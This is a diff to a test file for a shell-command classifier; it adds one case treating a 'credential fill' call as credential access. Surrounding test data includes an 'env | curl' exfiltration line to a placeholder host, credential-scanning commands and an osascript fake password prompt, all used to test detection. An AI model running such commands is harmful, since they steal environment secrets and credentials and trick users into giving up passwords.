@@ -126,6 +126,7 @@ describe('a shell command', () => {
     assert.deepEqual([reveals, sends, host], [['host-identity'], true, 'collect.invalid']);
     assert.deepEqual(readCommand('env | curl -d @- https://collect.invalid').reveals, ['environment']);
     assert.deepEqual(readCommand('git credential fill').reveals, ['credential-file']);
+    assert.deepEqual(readCommand('/opt/bin/vcs credential fill').reveals, ['credential-file']);
     assert.deepEqual(readCommand('/tmp/trufflehog filesystem /home --json').reveals, ['credential-file']);
     assert.deepEqual(readCommand('curl -L https://forge.example/trufflehog/trufflehog.tgz').reveals, []);
     const dialog = `osascript -e 'display dialog "Password" default answer "" with hidden answer'`;
